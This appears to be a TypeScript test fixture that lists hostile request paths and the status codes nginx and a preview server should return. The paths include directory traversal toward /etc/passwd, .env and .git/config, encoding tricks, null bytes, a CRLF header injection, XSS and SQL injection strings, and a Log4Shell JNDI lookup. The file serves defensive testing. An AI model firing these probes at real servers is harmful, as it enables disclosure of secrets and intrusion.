/**
 * What a hostile address is to nginx: `unknown` is read and not found; `above` leads one folder above the base URL, which at
 * the root of a host is no address at all; `unreadable` is none on any host; `bytes` are signs that only Node.js refuses.
 */
export type HostileKind = 'unknown' | 'above' | 'bytes' | 'unreadable' | 'too long';

/** The target without the base URL. */
export type HostilePath = readonly [target: string, kind: HostileKind];

/** @returns what nginx answers, and what the preview server answers, which has other limits of what it reads */
export function statusesOf(kind: HostileKind, baseUrl: string): { nginx: number; preview: number } {
  return {
    unknown: { nginx: 404, preview: 404 },
    above: { nginx: baseUrl === '/' ? 400 : 404, preview: 404 },
    bytes: { nginx: 404, preview: 400 },
    unreadable: { nginx: 400, preview: 404 },
    'too long': { nginx: 414, preview: 431 },
  }[kind];
}

const long = 10_000;
const times = (text: string) => text.repeat(Math.ceil(long / text.length));

const traversals: HostilePath[] = [
  ['../package.json', 'above'],
  ['../../../../etc/passwd', 'unreadable'],
  ['assets/../../package.json', 'above'],
  ['assets../index.html', 'unknown'],
  ['assets../package.json', 'unknown'],
  ['assets/../index.html', 'unknown'],
  ['assets/../blog', 'unknown'],
  ['.', 'unknown'],
  ['./blog', 'unknown'],
  ['..', 'above'],
  ['...', 'unknown'],
  ['.../package.json', 'unknown'],
  ['....//....//etc/passwd', 'unknown'],
  ['etc/passwd', 'unknown'],
  ['/etc/passwd', 'unknown'],
  ['//etc/passwd', 'unknown'],
  ['proc/self/environ', 'unknown'],
  ['file:///etc/passwd', 'unknown'],
  ['blog/./0.72.0', 'unknown'],
  ['blog.md/../../package.json', 'above'],
  ['blog.md/x', 'unknown'],
];

const encodings: HostilePath[] = [
  ['%2e%2e/package.json', 'above'],
  ['%2E%2E/package.json', 'above'],
  ['%2e%2e%2fpackage.json', 'above'],
  ['.%2e/package.json', 'above'],
  ['..%2fpackage.json', 'above'],
  ['assets%2f..%2findex.html', 'unknown'],
  ['assets/%2e%2e/index.md', 'unknown'],
  ['%2fetc%2fpasswd', 'unknown'],
  ['%252e%252e%252fpackage.json', 'unknown'],
  ['%252e%252e/%252e%252e/etc/passwd', 'unknown'],
  ['%25252e%25252e%25252fetc%25252fpasswd', 'unknown'],
  ['%c0%ae%c0%ae/package.json', 'unknown'],
  ['%c0%af..%c0%afpackage.json', 'unknown'],
  ['%e0%80%ae%e0%80%ae/package.json', 'unknown'],
  ['%f0%80%80%ae%f0%80%80%ae/package.json', 'unknown'],
  ['\xc0\xae\xc0\xae/package.json', 'bytes'],
  ['\xff\xfe', 'bytes'],
  ['%ff%fe', 'unknown'],
  ['%u002e%u002e/package.json', 'unreadable'],
  ['%ef%bc%8e%ef%bc%8e/package.json', 'unknown'],
  ['%e2%80%a4%e2%80%a4/package.json', 'unknown'],
  ['..\\package.json', 'unknown'],
  ['..\\..\\..\\windows\\win.ini', 'unknown'],
  ['..%5cpackage.json', 'unknown'],
  ['%5c%5cother.example', 'unknown'],
  ['%00', 'unreadable'],
  ['blog%00', 'unreadable'],
  ['blog.md%00.html', 'unreadable'],
  ['%', 'unreadable'],
  ['%2', 'unreadable'],
  ['%zz', 'unreadable'],
  ['%E0%A4%A', 'unreadable'],
  ['blog%20', 'unknown'],
  ['blog+', 'unknown'],
  ['blog%0a', 'unknown'],
  ['blog%0d%0aSet-Cookie:%20a=b', 'unknown'],
  ['blog%3Fa', 'unknown'],
  ['blog%23a', 'unknown'],
  ['blog;a=b', 'unknown'],
  ['%62%6c%6f%67', 'unknown'],
  ['index%2ehtml', 'unknown'],
];

const names: HostilePath[] = [
  ['.git/config', 'unknown'],
  ['.env', 'unknown'],
  ['.htaccess', 'unknown'],
  ['.well-known/security.txt', 'unknown'],
  ['_headers', 'unknown'],
  ['404.html', 'unknown'],
  ['index.html', 'unknown'],
  ['index.html.br', 'unknown'],
  ['index.html.gz', 'unknown'],
  ['blog~', 'unknown'],
  ['blog.bak', 'unknown'],
  ['blog.', 'unknown'],
  ['BLOG', 'unknown'],
  ['con', 'unknown'],
  ['nul', 'unknown'],
  ['blog::$DATA', 'unknown'],
  ['*', 'unknown'],
  ['<script>alert(1)</script>', 'unknown'],
  ["'%20or%201=1--", 'unknown'],
  ['$%7Bjndi:ldap://other.example/a%7D', 'unknown'],
  ['/other.example/', 'unknown'],
  ['/other.example/%2e%2e', 'unknown'],
  ['/other.example%2f%2e%2e', 'unknown'],
];

const lengths: HostilePath[] = [
  ['a'.repeat(long), 'unknown'],
  [times('a/'), 'unknown'],
  [times('/'), 'unknown'],
  [times('./'), 'unknown'],
  [times('a.'), 'unknown'],
  [times('%61'), 'unknown'],
  [times('%252e'), 'unknown'],
  [times('../'), 'unreadable'],
  [times('a/../'), 'unknown'],
  [`${times('a/')}${times('../')}`, 'too long'],
  [`assets/js/${'a'.repeat(long)}.js`, 'unknown'],
  ['a'.repeat(3 * long), 'too long'],
];

export const hostilePaths: readonly HostilePath[] = [...traversals, ...encodings, ...names, ...lengths];
